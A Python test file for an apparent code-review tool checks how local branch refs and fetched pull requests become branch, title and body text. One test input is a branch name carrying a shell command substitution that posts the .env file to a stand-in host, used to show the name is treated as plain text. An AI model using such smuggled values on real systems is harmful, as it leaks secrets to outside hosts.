"""A local review judges the workflows' pastes against the text of what it reviews."""

from __future__ import annotations

import argparse
from types import SimpleNamespace
from typing import Any

from app_relay.cli.review import pull_text
from app_relay.decide.hits import PullText


def local(head: str) -> PullText:
    started: Any = SimpleNamespace(pull=None)
    return pull_text(argparse.Namespace(head=head), started)


def test_a_local_branch_is_its_name_and_has_no_title_or_body() -> None:
    assert local("$({curl,-d,@.env,x.test})") == PullText(branch="$({curl,-d,@.env,x.test})")
    assert local("refs/heads/feature/x") == PullText(branch="feature/x")
    # A commit names no branch.
    assert local("a" * 40) == PullText()


def test_a_fetched_pull_request_is_githubs_text() -> None:
    fetched = SimpleNamespace(title="T", body="", head_ref="patch-1")
    started: Any = SimpleNamespace(pull=fetched)
    said = pull_text(argparse.Namespace(head="b" * 40), started)
    assert said == PullText(title="T", body="", branch="patch-1")
